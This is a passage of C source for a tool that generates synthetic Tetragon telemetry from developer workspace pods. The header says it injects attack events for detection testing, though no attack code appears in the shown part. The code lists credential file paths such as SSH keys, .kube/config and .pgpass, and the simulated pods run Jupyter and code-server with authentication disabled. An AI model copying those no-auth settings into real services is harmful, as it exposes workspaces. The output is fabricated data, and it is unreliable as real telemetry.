/* genfleet: a deterministic generator of one day of a developer-workspace fleet, written as
 * Tetragon JSON export lines (process_exec, process_exit, process_kprobe) on stdout.
 *
 * Model: nodes of ~20 workspace pods; each workspace has an image (python-notebook,
 * code-server node, go, java, rust, cpp), an owner with a time zone, an activity class,
 * habits (shell, prompt, git transport, tmux, cloud CLIs) and 0-3 personal long-tail tools.
 * Work sessions (shifted by time zone) consist of bursts of actions separated by idle gaps;
 * each action is a process tree (exec, kprobes, exit) with consistent exec_id lineage.
 * A min-heap on (time, sequence) emits everything in non-decreasing time order.
 * Unless --no-attacks, five single attack events are injected in three workspaces after
 * hour 14 (60% of --hours when shorter than a day); --labels writes where they are.
 *
 * usage: genfleet [--workspaces N] [--hours H] [--seed S] [--start RFC3339]
 *                 [--labels FILE] [--no-attacks] > fleet.jsonl */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef uint64_t u64;
typedef int64_t i64;
typedef uint32_t u32;
typedef uint16_t u16;
typedef uint8_t u8;
#define SEC 1000000000ull
#define MSEC 1000000ull
#define USEC 1000ull
#define MIN (60 * SEC)
#define HOUR (3600 * SEC)
#define DAY (86400 * SEC)
static inline uint64_t MAXU(uint64_t a, uint64_t b) { return a > b ? a : b; }

#include "genfleet-data.h"

/* ---- PRNG: splitmix64, one stream per workspace ----------------------------------------- */
static u64 *rs;
static u64 rnd(void)
{
	u64 z = (*rs += 0x9E3779B97F4A7C15ull);
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}
static u32 below(u32 n) { return n ? (u32)(((rnd() >> 32) * n) >> 32) : 0; }
static int pct(u32 p) { return below(100) < p; }
static u64 span(u64 lo, u64 hi) { return hi > lo ? lo + rnd() % (hi - lo) : lo; }
static u64 ex(u64 mean) { return mean / 1000 * exp_q[rnd() & 255]; } /* exponential */
/* a duration with the given median (ms), exponential with an occasional long tail */
static u64 dms(u32 median)
{
	u64 d = (u64)median * MSEC / 693 * exp_q[rnd() & 255] / 1000 + 200 * USEC;
	return pct(6) ? d * (2 + below(5)) : d;
}
static u32 wpick(const u32 *w, u32 n)
{
	u64 s = 0, r;
	for (u32 i = 0; i < n; i++) s += w[i];
	if (!s) return 0;
	r = rnd() % s;
	for (u32 i = 0; i < n; i++) {
		if (r < w[i]) return i;
		r -= w[i];
	}
	return n - 1;
}
#define PICK(a) ((a)[below(NELEM(a))])

/* ---- output ------------------------------------------------------------------------------ */
static char ob[1 << 20];
static size_t on;
static u64 lineno;
static void oflush(void) { fwrite(ob, 1, on, stdout); on = 0; }
static void os(const char *s) { size_t n = strlen(s); memcpy(ob + on, s, n); on += n; }
static void oj(const char *s)
{
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;
		if (c == '"' || c == '\\') ob[on++] = '\\', ob[on++] = (char)c;
		else if (c < 0x20) on += (size_t)sprintf(ob + on, "\\u%04x", c);
		else ob[on++] = (char)c;
	}
}
static void ou(u64 v)
{
	char t[24];
	int i = 24;
	do t[--i] = (char)('0' + v % 10); while (v /= 10);
	memcpy(ob + on, t + i, (size_t)(24 - i));
	on += (size_t)(24 - i);
}
static void oi(i64 v) { if (v < 0) ob[on++] = '-', v = -v; ou((u64)v); }

/* RFC 3339 with nanoseconds (frac) or whole seconds; civil date from days (H. Hinnant) */
static void fmt_ts(u64 ns, char *o, int frac)
{
	u64 s = ns / SEC, days = s / 86400;
	u32 sod = (u32)(s % 86400);
	i64 z = (i64)days + 719468, era = z / 146097;
	u32 doe = (u32)(z - era * 146097), yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	u32 doy = doe - (365 * yoe + yoe / 4 - yoe / 100), mp = (5 * doy + 2) / 153;
	u32 d = doy - (153 * mp + 2) / 5 + 1, m = mp < 10 ? mp + 3 : mp - 9;
	i64 y = (i64)yoe + era * 400 + (m <= 2);
	int n = sprintf(o, "%04d-%02u-%02uT%02u:%02u:%02u", (int)y, m, d, sod / 3600, sod / 60 % 60, sod % 60);
	if (frac) sprintf(o + n, ".%09uZ", (u32)(ns % SEC));
	else strcpy(o + n, "Z");
}
static void ots(u64 ns) { char b[40]; fmt_ts(ns, b, 1); os(b); }
static i64 days_from_civil(i64 y, u32 m, u32 d)
{
	y -= m <= 2;
	i64 era = (y >= 0 ? y : y - 399) / 400;
	u32 yoe = (u32)(y - era * 400), doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
	return era * 146097 + (i64)(yoe * 365 + yoe / 4 - yoe / 100 + doy) - 719468;
}
static int parse_rfc3339(const char *s, u64 *out)
{
	int y, mo, d, h, mi, se, n = 0;
	if (sscanf(s, "%4d-%2d-%2dT%2d:%2d:%2d%n", &y, &mo, &d, &h, &mi, &se, &n) != 6 || mo < 1 || mo > 12)
		return -1;
	u64 frac = 0;
	const char *p = s + n;
	if (*p == '.')
		for (u64 scale = SEC / 10, *f = &frac; *++p >= '0' && *p <= '9'; scale /= 10) *f += (u64)(*p - '0') * scale;
	i64 off = 0;
	if (*p == '+' || *p == '-') {
		int oh, om;
		if (sscanf(p + 1, "%2d:%2d", &oh, &om) != 2) return -1;
		off = (oh * 60 + om) * (*p == '-' ? -60 : 60);
	} else if (*p != 'Z' && *p != 'z')
		return -1;
	i64 secs = days_from_civil(y, (u32)mo, (u32)d) * 86400 + h * 3600 + mi * 60 + se - off;
	if (secs < 0) return -1;
	*out = (u64)secs * SEC + frac;
	return 0;
}

static void b64(const char *in, char *out)
{
	static const char tbl[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in), o = 0;
	for (size_t i = 0; i < n; i += 3) {
		u32 v = (u32)(unsigned char)in[i] << 16;
		if (i + 1 < n) v |= (u32)(unsigned char)in[i + 1] << 8;
		if (i + 2 < n) v |= (unsigned char)in[i + 2];
		out[o++] = tbl[(v >> 18) & 63];
		out[o++] = tbl[(v >> 12) & 63];
		out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < n ? tbl[v & 63] : '=';
	}
	out[o] = 0;
}
static void hex(char *o, u32 n) { for (u32 i = 0; i < n; i++) o[i] = "0123456789abcdef"[rnd() & 15]; o[n] = 0; }

/* ---- processes and events ------------------------------------------------------------------ */
struct node {
	char name[48];
	u64 boot;
	u32 pid;
	struct proc *systemd;
};
typedef struct ws W;
typedef struct proc {
	struct proc *par;
	W *w;                   /* NULL: a host process (no pod block) */
	const char *pod;        /* pod block up to "pid": of its container generation */
	const char *podend;     /* rest of the pod block and the docker field */
	u64 start;
	u32 pid, cpid, uid;
	int refs;
	u8 clone, init;
	char id[88];
	char *bin, *args, *cwd;
	char s[];
} P;

enum { E_EXEC, E_EXIT, E_FILE, E_SOCK, E_CALL, E_WAKE };
enum { WK_SESS, WK_ACT, WK_BG, WK_END, WK_STOP, WK_ATK };
typedef struct ev {
	u64 t, seq;
	P *p;
	W *w;
	u8 kind, sub, label;
	int status;     /* exit status, file mask, session index, attack number */
	const char *str; /* exit signal, kprobe function */
	u32 ip;
	u16 port, sport;
	i64 a, b;
	char path[];
} E;

static E **hp;
static size_t hn, hcap;
static u64 seqno, now;
static int hless(const E *a, const E *b) { return a->t < b->t || (a->t == b->t && a->seq < b->seq); }
static void hpush(E *e)
{
	if (hn == hcap) hp = realloc(hp, (hcap = hcap ? 2 * hcap : 4096) * sizeof *hp);
	size_t i = hn++;
	while (i && hless(e, hp[(i - 1) / 2])) hp[i] = hp[(i - 1) / 2], i = (i - 1) / 2;
	hp[i] = e;
}
static E *hpop(void)
{
	E *top = hp[0], *last = hp[--hn];
	size_t i = 0;
	for (;;) {
		size_t c = 2 * i + 1;
		if (c >= hn) break;
		if (c + 1 < hn && hless(hp[c + 1], hp[c])) c++;
		if (!hless(hp[c], last)) break;
		hp[i] = hp[c], i = c;
	}
	if (hn) hp[i] = last;
	return top;
}

static u8 g_label;
static u64 clamped; /* events that would have gone back in time: a generator bug */
static E *evnew(int kind, P *p, u64 t, const char *path)
{
	size_t pl = path ? strlen(path) + 1 : 1;
	E *e = calloc(1, sizeof *e + pl);
	if (path) memcpy(e->path, path, pl);
	if (kind != E_EXEC && kind != E_WAKE) t += rnd() % 997;
	if (t < now) t = now, clamped++;
	e->kind = (u8)kind, e->p = p, e->t = t, e->seq = seqno++;
	e->label = g_label, g_label = 0;
	if (p) p->refs++;
	hpush(e);
	return e;
}
static void unref(P *p)
{
	while (p && --p->refs == 0) {
		P *q = p->par;
		free(p);
		p = q;
	}
}

/* ---- workspaces ---------------------------------------------------------------------------- */
enum { A_CMD, A_EDIT, A_GIT, A_GITNET, A_BUILD, A_PKG, A_SUDO, A_CURL, A_KUBE, A_AWS, A_DOCKER, A_TAIL, A_KERN,
       A_SSH, A_IDE, N_ACT };
/*                                   CMD EDIT GIT GNET BUILD PKG SUDO CURL KUBE AWS DOCK TAIL KERN SSH IDE */
static const u16 base_w[N_IMG][N_ACT] = {
	[IMG_PY] = {110, 10, 25, 8, 40, 22, 3, 8, 0, 0, 0, 0, 300, 2, 0},
	[IMG_NODE] = {190, 20, 80, 22, 120, 22, 3, 7, 0, 0, 0, 0, 0, 2, 110},
	[IMG_GO] = {190, 25, 80, 22, 130, 12, 3, 7, 0, 0, 0, 0, 0, 3, 100},
	[IMG_JAVA] = {160, 15, 70, 20, 120, 8, 3, 6, 0, 0, 0, 0, 0, 2, 100},
	[IMG_RUST] = {180, 25, 75, 20, 130, 10, 3, 8, 0, 0, 0, 0, 0, 2, 100},
	[IMG_CPP] = {200, 45, 70, 18, 140, 4, 5, 6, 0, 0, 0, 0, 0, 4, 80},
};
enum { EN_IDE, EN_JUP, EN_SSH, EN_KEXEC };
enum { PR_NONE, PR_PS1, PR_OMZ, PR_STAR };
struct proj { char name[40], org[32], dir[96]; u8 gitlab; };
struct sess { u64 s, e; };
struct ws {
	u32 idx, node, img, ip, uid, rate, cpid, boots;
	u64 rng;
	int tz;
	u8 cls, entry, prompt, zsh, tmux, gitssh, rsa, cred, aws, docker, kube, extk8s, autofetch, sudopw, ephemeral,
		old, gitpanel, ntail, npr, cur, nss, in_sess, burst, direnv, starship_bash;
	u8 tail[3];
	u32 aw[N_ACT];
	char user[24], home[48], owner[64], wsid[48], ns[40], pod[56], wl[48];
	char cwd[128];
	const char *podpre, *podpost;
	struct proj pr[3];
	struct sess ss[32];
	u64 send, busy, last_fetch;
	P *shim, *init, *ide, *srv, *pty, *sshd, *jup, *exth, *lsp, *kern, *tmuxs, *tsh, *esh, *tcl, *sh, *sshc;
};
static struct node *nodes;
static W *wss;
static u32 n_ws = 200, n_nodes;
static u64 T0, TEND, hours = 24;
static W *cw;

static const char *g_cwd;
static int g_uid = -1, g_noclone, g_silent;

static u32 next_pid(struct node *n)
{
	n->pid += 1 + below(3);
	if (n->pid > 4194000) n->pid = 300 + below(500);
	return n->pid;
}
static P *spawnv(P *par, u64 t, const char *bin, const char *fmt, va_list ap)
{
	char a[2048];
	vsnprintf(a, sizeof a, fmt, ap);
	W *w = cw;
	const char *cwd = g_cwd ? g_cwd : par && par->w ? par->cwd : w->home;
	size_t lb = strlen(bin) + 1, la = strlen(a) + 1, lc = strlen(cwd) + 1;
	P *p = calloc(1, sizeof *p + lb + la + lc);
	p->bin = p->s, p->args = p->s + lb, p->cwd = p->args + la;
	memcpy(p->bin, bin, lb), memcpy(p->args, a, la), memcpy(p->cwd, cwd, lc);
	p->par = par;
	if (par) par->refs++;
	p->w = w, p->pod = w->podpre, p->podend = w->podpost, p->refs = 1;
	p->uid = g_uid >= 0 ? (u32)g_uid : par && par->w ? par->uid : w->uid;
	p->clone = !g_noclone, p->init = par && par->w ? par->init : 0;
	struct node *n = &nodes[w->node];
	p->pid = g_noclone && par ? par->pid : next_pid(n);
	p->cpid = g_noclone && par ? par->cpid : ++w->cpid;
	p->start = t += rnd() % 997;
	char raw[128];
	snprintf(raw, sizeof raw, "%s:%llu:%u", n->name, (unsigned long long)(t - n->boot), p->pid);
	b64(raw, p->id);
	if (!g_silent) evnew(E_EXEC, p, t, NULL);
	g_cwd = NULL, g_uid = -1, g_noclone = 0;
	return p;
}
static P *spawn(P *par, u64 t, const char *bin, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	P *p = spawnv(par, t, bin, fmt, ap);
	va_end(ap);
	return p;
}
/* exit event (signal NULL: normal exit with status) and release of the owner's reference */
static void fin_sig(P *p, u64 t, int status, const char *sig)
{
	if (!p) return;
	if (t < p->start + 100 * USEC) t = p->start + 100 * USEC + below(900) * USEC;
	E *e = evnew(E_EXIT, p, t, NULL);
	e->status = status, e->str = sig;
	unref(p);
}
static void fin(P *p, u64 t, int status) { fin_sig(p, t, status, NULL); }
/* a process replaced by execve: no exit event of its own */
static void replaced(P *p) { unref(p); }
/* spawn, then exit after a duration with the given median; returns the exit time */
static u64 leaf(P *par, u64 t, u32 median_ms, const char *bin, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	P *p = spawnv(par, t, bin, fmt, ap);
	va_end(ap);
	u64 e = t + dms(median_ms);
	fin(p, e, pct(4) ? 1 : 0);
	return e;
}
static void kfile(P *p, u64 t, const char *path, int mask) { evnew(E_FILE, p, t, path)->status = mask; }
static void ksock(P *p, u64 t, u32 ip, u16 port)
{
	E *e = evnew(E_SOCK, p, t, NULL);
	e->ip = ip, e->port = port, e->sport = (u16)(32768 + below(28000)), e->a = (i64)(rnd() % 10000000000000ull);
}
static void kcall(P *p, u64 t, const char *fn, int nargs, i64 a, i64 b)
{
	E *e = evnew(E_CALL, p, t, NULL);
	e->str = fn, e->sub = (u8)nargs, e->a = a, e->b = b;
}
static u32 ip4(u32 a, u32 b, u32 c, u32 d) { return a << 24 | b << 16 | c << 8 | d; }
static u32 ipstr(const char *s)
{
	u32 a, b, c, d;
	return sscanf(s, "%u.%u.%u.%u", &a, &b, &c, &d) == 4 ? ip4(a, b, c, d) : 0;
}
/* destination: D_* public pool, DST_SVC(S_*) cluster service, DST_LOCAL loopback */
static u64 conn(P *p, u64 t, int dst, u16 port)
{
	u32 ip;
	u16 pt;
	if (dst >= DST_LOCAL) ip = ip4(127, 0, 0, 1), pt = port ? port : 8080;
	else if (dst >= 100) ip = ipstr(svcs[dst - 100].ip), pt = port ? port : svcs[dst - 100].port;
	else {
		const struct dstpool *d = &dst_public[dst];
		ip = ip4(d->a, d->b, d->c0 + below(d->cn), d->d0 + below(d->dn)), pt = port ? port : d->port;
	}
	ksock(p, t, ip, pt);
	return t + span(2, 40) * MSEC;
}
static u64 sh_now(W *w, u64 t) { return MAXU(t, w->busy); }
/* a long-running foreground process ends by the end of the session (plus a little) */
static u64 capd(u64 t, u64 d)
{
	W *w = cw;
	if (w->in_sess && w->send > t && t + d > w->send + 2 * MIN) d = w->send - t + span(SEC, 2 * MIN);
	return d;
}

/* ---- templates ------------------------------------------------------------------------------ */
static const char *alt(const char *tmpl)
{
	static char b[1024];
	u32 n = 1;
	for (const char *p = tmpl; *p; p++) n += *p == '|';
	u32 k = below(n);
	const char *p = tmpl;
	while (k) k -= *p++ == '|';
	size_t l = strcspn(p, "|");
	memcpy(b, p, l), b[l] = 0;
	return b;
}
static const char *pkg_name(void)
{
	switch (cw->img) {
	case IMG_PY: return PICK(pip_pkgs);
	case IMG_NODE: return PICK(npm_pkgs);
	case IMG_GO: return PICK(go_mods);
	case IMG_RUST: return PICK(crates);
	default: return PICK(apt_pkgs);
	}
}
static void xp(const char *in, char *out, size_t cap);
static const char *subdir(void)
{
	static const char *const s[N_IMG][4] = {{"src", "notebooks", "tests", "scripts"}, {"src", "src/components", "tests", "scripts"},
						{"internal", "cmd", "pkg", "api"}, {"src/main/java", "src/test/java", "src/main/resources", "scripts"},
						{"src", "tests", "benches", "examples"}, {"src", "include", "tests", "tools"}};
	return s[cw->img][below(4)];
}
static const char *ph(const char *k, char *b)
{
	W *w = cw;
	struct proj *pr = &w->pr[w->cur];
	if (!strcmp(k, "home")) return w->home;
	if (!strcmp(k, "user")) return w->user;
	if (!strcmp(k, "owner")) return w->owner;
	if (!strcmp(k, "proj")) return pr->name;
	if (!strcmp(k, "pdir")) return pr->dir;
	if (!strcmp(k, "org")) return pr->org;
	if (!strcmp(k, "sub")) return subdir();
	if (!strcmp(k, "word")) return PICK(words);
	if (!strcmp(k, "ext")) return ext_by_image[w->img];
	if (!strcmp(k, "ns")) return PICK(k8s_ns);
	if (!strcmp(k, "pkg")) return pkg_name();
	if (!strcmp(k, "key")) return w->rsa ? "id_rsa" : "id_ed25519";
	if (!strcmp(k, "n")) return sprintf(b, "%u", pct(70) ? 1 + below(50) : below(5000)), b;
	if (!strcmp(k, "pidn")) return sprintf(b, "%u", 100 + below(60000)), b;
	if (!strcmp(k, "port")) {
		static const u16 ports[] = {3000, 5000, 5173, 8000, 8080, 8081, 8888, 9000, 4200, 8443};
		return sprintf(b, "%u", pct(85) ? PICK(ports) : 1024 + below(60000)), b;
	}
	if (!strcmp(k, "dbhost") || !strcmp(k, "dbport")) {
		u8 s = PICK(db_svcs);
		return k[2] == 'h' ? svcs[s].name : (sprintf(b, "%u", svcs[s].port), b);
	}
	if (!strcmp(k, "h7")) return hex(b, 7), b;
	if (!strcmp(k, "h40")) return hex(b, 40), b;
	if (!strcmp(k, "hexkey")) { hex(b, 16); for (char *c = b; *c; c++) if (*c >= 'a') *c -= 32; return b; }
	if (!strcmp(k, "uuid")) {
		hex(b, 32);
		memmove(b + 21, b + 20, 13), b[20] = '-', memmove(b + 17, b + 16, 18), b[16] = '-';
		memmove(b + 13, b + 12, 23), b[12] = '-', memmove(b + 9, b + 8, 28), b[8] = '-';
		return b;
	}
	if (!strcmp(k, "tmp")) {
		static const char al[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
		strcpy(b, "/tmp/tmp.");
		for (int i = 9; i < 19; i++) b[i] = al[below(62)];
		return b[19] = 0, b;
	}
	if (!strcmp(k, "file")) return sprintf(b, "%s/%s.%s", subdir(), PICK(words), ext_by_image[w->img]), b;
	if (!strcmp(k, "branch")) return sprintf(b, "%s%s-%s", PICK(branch_pfx), PICK(words), PICK(words)), b;
	if (!strcmp(k, "msg")) return xp(PICK(commit_msgs), b, 200), b;
	if (!strcmp(k, "run")) {
		static const char *const run[N_IMG] = {"/opt/conda/bin/python3 app.py", "/usr/bin/node server.js",
						       "{pdir}/bin/{proj}", "/usr/lib/jvm/java-21-openjdk-amd64/bin/java -jar target/{proj}-0.1.0.jar",
						       "{pdir}/target/debug/{proj}", "{pdir}/build/{proj}"};
		return xp(run[w->img], b, 300), b;
	}
	return NULL;
}
static void xp(const char *in, char *out, size_t cap)
{
	size_t o = 0;
	char b[400];
	while (*in && o + 1 < cap) {
		const char *e;
		if (*in == '{' && (e = strchr(in, '}')) && e - in < 12 && e > in + 1) {
			char k[12];
			memcpy(k, in + 1, (size_t)(e - in - 1)), k[e - in - 1] = 0;
			const char *v = ph(k, b);
			if (v) {
				size_t l = strlen(v);
				if (o + l >= cap) l = cap - o - 1;
				memcpy(out + o, v, l), o += l, in = e + 1;
				continue;
			}
		}
		out[o++] = *in++;
	}
	out[o] = 0;
}
/* expand into one of 8 rotating buffers */
static const char *X(const char *tmpl)
{
	static char b[8][1024];
	static int i;
	i = (i + 1) & 7;
	xp(tmpl, b[i], sizeof b[i]);
	return b[i];
}

/* ---- rendering ------------------------------------------------------------------------------ */
static void oproc(const P *p)
{
	os("{\"exec_id\":\""), os(p->id), os("\",\"pid\":"), ou(p->pid), os(",\"uid\":"), ou(p->uid);
	os(",\"cwd\":\""), oj(p->cwd), os("\",\"binary\":\""), oj(p->bin), os("\"");
	if (*p->args) os(",\"arguments\":\""), oj(p->args), os("\"");
	os(p->clone ? (p->init ? ",\"flags\":\"execve clone inInitTree\"" : ",\"flags\":\"execve clone\"")
		    : (p->init ? ",\"flags\":\"execve inInitTree\"" : ",\"flags\":\"execve\""));
	os(",\"start_time\":\""), ots(p->start), os("\",\"auid\":4294967295,");
	if (p->w) os(p->pod), ou(p->cpid), os(p->podend);
	os("\"parent_exec_id\":\""), os(p->par ? p->par->id : "a3ViZWxldDox"), os("\",\"tid\":"), ou(p->pid), os("}");
}
static const char *perm(const char *path)
{
	if (strstr(path, "/etc/shadow")) return "-rw-r-----";
	if (strstr(path, "/.ssh/id_") || strstr(path, "credentials") || strstr(path, ".kube/config") ||
	    strstr(path, ".git-credentials") || strstr(path, "hosts.yml") || strstr(path, ".pgpass") || strstr(path, "token"))
		return strstr(path, ".pub") ? "-rw-r--r--" : "-rw-------";
	return "-rw-r--r--";
}
static void render(const E *e)
{
	static const char *const kinds[] = {"{\"process_exec\":{\"process\":", "{\"process_exit\":{\"process\":",
					    "{\"process_kprobe\":{\"process\":"};
	const P *p = e->p;
	os(kinds[e->kind > 2 ? 2 : e->kind]);
	oproc(p);
	if (p->par && p->par->w) os(",\"parent\":"), oproc(p->par);
	switch (e->kind) {
	case E_EXIT:
		os(",\"status\":"), oi(e->status);
		if (e->str) os(",\"signal\":\""), os(e->str), os("\"");
		os(",\"time\":\""), ots(e->t), os("\"");
		break;
	case E_FILE:
		os(",\"function_name\":\"security_file_permission\",\"args\":[{\"file_arg\":{\"path\":\""), oj(e->path);
		os("\",\"permission\":\""), os(perm(e->path)), os("\"}},{\"int_arg\":"), ou((u64)e->status);
		os("}],\"return\":{\"int_arg\":0},\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-sensitive-files\"");
		break;
	case E_SOCK: {
		char b[160];
		sprintf(b, "\"saddr\":\"%u.%u.%u.%u\",\"daddr\":\"%u.%u.%u.%u\"", p->w->ip >> 24, p->w->ip >> 16 & 255,
			p->w->ip >> 8 & 255, p->w->ip & 255, e->ip >> 24, e->ip >> 16 & 255, e->ip >> 8 & 255, e->ip & 255);
		os(",\"function_name\":\"tcp_connect\",\"args\":[{\"sock_arg\":{\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\","
		   "\"protocol\":\"IPPROTO_TCP\","), os(b);
		os(",\"sport\":"), ou(e->sport), os(",\"dport\":"), ou(e->port), os(",\"cookie\":\"1844674"), ou((u64)e->a + 1000000000000ull);
		os("\",\"state\":\"TCP_SYN_SENT\"}}],\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-egress\"");
		break;
	}
	case E_CALL:
		os(",\"function_name\":\""), os(e->str), os("\",\"args\":[{\"int_arg\":"), oi(e->a);
		if (e->sub > 1) os("},{\"int_arg\":"), oi(e->b);
		os("}],\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"worktrace-kernel\"");
		break;
	}
	if (e->kind >= E_FILE) os(",\"return_action\":\"KPROBE_ACTION_POST\"");
	os("},\"node_name\":\""), os(nodes[p->w->node].name), os("\",\"time\":\""), ots(e->t), os("\"}\n");
	lineno++;
	if (on > sizeof ob - 65536) oflush();
}

/* ---- pods ------------------------------------------------------------------------------------ */
static const char *const img_sha[N_IMG][2] = {
	{"8f2c1e4ab07d93e5c6114f0b2d7a98e3c55b0e71d4a2f96b38c0d1e7a4b5f602", "1b7e9d03f4a6c2558e0fd31b7a49c6e2d8f0a1b3c5d7e9f1a3b5c7d9e1f3a5b7"},
	{"c41a9e6edf8ce274a0e660c3e255b7d010e39669223d9d461b75ed0604e2aaab", "77d0a2b4c6e8f0a2b4c6d8e0f2a4b6c8d0e2f4a6b8c0d2e4f6a8b0c2d4e6f8a0"},
	{"2bc5c236e9b262645a323e9088dfa3bb1ecb16cc75811daf40a23a824d665be9", "9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7"},
	{"5d41402abc4b2a76b9719d911017c592ae2f6a7b8c9d0e1f2a3b4c5d6e7f8091", "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"},
	{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "f0e1d2c3b4a5968778695a4b3c2d1e0ff0e1d2c3b4a5968778695a4b3c2d1e0f"},
	{"6edf8ce274a0e660c3e255b7d010e39669223d9d461b75ed0604e2aaab64d7ca", "3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b"}};
static const char *const img_oldtag[N_IMG] = {"2026.09.1", "2026.09", "1.23-2026.09", "21-2026.08", "1.81-2026.09", "13-2026.09"};
static void pod_strings(W *w, u64 start)
{
	char cid[65], st[40], b[1400];
	hex(cid, 64);
	fmt_ts(start, st, 0);
	snprintf(b, sizeof b,
		 "\"pod\":{\"namespace\":\"%s\",\"name\":\"%s\",\"container\":{\"id\":\"containerd://%s\",\"name\":\"dev\","
		 "\"image\":{\"id\":\"registry.example.com/devenv/%s@sha256:%s\",\"name\":\"registry.example.com/devenv/%s:%s\"},"
		 "\"start_time\":\"%s\",\"pid\":",
		 w->ns, w->pod, cid, image_names[w->img], img_sha[w->img][w->old], image_names[w->img],
		 w->old ? img_oldtag[w->img] : image_tags[w->img], st);
	w->podpre = strdup(b);
	snprintf(b, sizeof b,
		 "},\"pod_labels\":{\"worktrace.io/owner\":\"%s\",\"worktrace.io/workspace\":\"%s\"},"
		 "\"workload\":\"%s\",\"workload_kind\":\"StatefulSet\"},\"docker\":\"%.31s\",",
		 w->owner, w->wsid, w->wl, cid);
	w->podpost = strdup(b);
}
#define CSNODE "/usr/lib/code-server/lib/node"
#define PY3 "/opt/conda/bin/python3"
/* the container's long-lived processes; silent when the pod started before the window */
static void pod_boot(W *w, u64 t, int silent)
{
	struct node *n = &nodes[w->node];
	w->cpid = 0, w->boots++;
	pod_strings(w, t);
	w->podpre = w->podpre;
	char a[200];
	w->shim = calloc(1, sizeof(P) + 160);
	P *s = w->shim;
	s->bin = s->s, s->args = s->s + 40, s->cwd = s->s + 150;
	strcpy(s->bin, "/usr/bin/containerd-shim-runc-v2"), strcpy(s->args, "-namespace k8s.io"), strcpy(s->cwd, "/");
	s->par = n->systemd, n->systemd->refs++, s->refs = 1, s->pid = next_pid(n), s->start = t - 2 * SEC;
	snprintf(a, sizeof a, "%s:%llu:%u", n->name, (unsigned long long)(s->start - n->boot), s->pid);
	b64(a, s->id);
	g_silent = silent;
	g_cwd = w->home;
	w->init = spawn(s, t, "/usr/bin/tini", "-g -- /usr/local/bin/start-workspace.sh");
	w->init->init = 1;
	if (w->img == IMG_PY) {
		g_noclone = 1, g_cwd = w->home;
		w->jup = spawn(w->init, t + 30 * MSEC, PY3, "/opt/conda/bin/jupyter-lab --ServerApp.ip=0.0.0.0 --ServerApp.port=8888 "
			       "--ServerApp.token= --ServerApp.root_dir=%s", w->home);
	} else {
		g_cwd = w->home;
		w->ide = spawn(w->init, t + 30 * MSEC, CSNODE, "/usr/lib/code-server --bind-addr 0.0.0.0:8080 --auth none "
			       "--disable-telemetry %s", w->pr[0].dir);
		w->srv = spawn(w->ide, t + 600 * MSEC, CSNODE, "/usr/lib/code-server/out/node/entry");
		w->pty = spawn(w->srv, t + 900 * MSEC, CSNODE, "--dns-result-order=ipv4first /usr/lib/code-server/lib/vscode/out/"
			       "bootstrap-fork --type=ptyHost --logsPath %s/.local/share/code-server/logs", w->home);
	}
	if (w->entry == EN_SSH) w->sshd = spawn(w->init, t + 40 * MSEC, "/usr/sbin/sshd", "-D -e -p 2222");
	g_silent = 0;
}
static void pod_stop(W *w, u64 t)
{
	P **ps[] = {&w->kern, &w->tsh, &w->tmuxs, &w->lsp, &w->exth, &w->pty, &w->srv, &w->ide, &w->jup, &w->sshd, &w->init};
	for (size_t i = 0; i < NELEM(ps); i++)
		if (*ps[i]) fin_sig(*ps[i], t + i * 3 * MSEC, 0, "SIGTERM"), *ps[i] = NULL;
	unref(w->shim), w->shim = NULL;
}

/* ---- shells and sessions --------------------------------------------------------------------- */
static const char *shell_bin(W *w) { return w->zsh ? "/usr/bin/zsh" : "/bin/bash"; }
/* rc-file commands of a new interactive shell */
static u64 shell_rc(P *sh, u64 t)
{
	W *w = cw;
	if (!w->zsh) {
		t = leaf(sh, t + MSEC, 2, "/usr/bin/dircolors", "-b") + 300 * USEC;
		P *lp = spawn(sh, t, "/usr/bin/lesspipe", "");
		u64 c = leaf(lp, t + 400 * USEC, 1, "/usr/bin/basename", "/usr/bin/lesspipe");
		c = leaf(lp, c + 200 * USEC, 1, "/usr/bin/dirname", "/usr/bin/lesspipe");
		fin(lp, c + MSEC, 0), t = c + 2 * MSEC;
	} else
		t = leaf(sh, t + 2 * MSEC, 3, "/usr/bin/git", "-c gc.auto=0 -C %s/.oh-my-zsh rev-parse --short HEAD", w->home);
	if (w->prompt == PR_STAR) t = leaf(sh, t + MSEC, 4, "/usr/local/bin/starship", "init %s --print-full-init", w->zsh ? "zsh" : "bash");
	if (w->direnv) t = leaf(sh, t + MSEC, 3, "/usr/bin/direnv", "hook %s", w->zsh ? "zsh" : "bash");
	return t;
}
/* what the shell runs to draw its prompt after every command */
static u64 prompt(P *sh, u64 t)
{
	W *w = cw;
	if (!sh) return t;
	t += 2 * MSEC;
	if (w->prompt == PR_PS1)
		t = leaf(sh, t, 3, "/usr/bin/git", "rev-parse --git-dir --is-inside-git-dir --is-bare-repository --is-inside-work-tree --short HEAD");
	else if (w->prompt == PR_OMZ) {
		t = leaf(sh, t, 2, "/usr/bin/git", "symbolic-ref --quiet HEAD");
		if (pct(30)) t = leaf(sh, t + 300 * USEC, 3, "/usr/bin/git", "--no-optional-locks status --porcelain=v1 --untracked-files=no");
	} else if (w->prompt == PR_STAR)
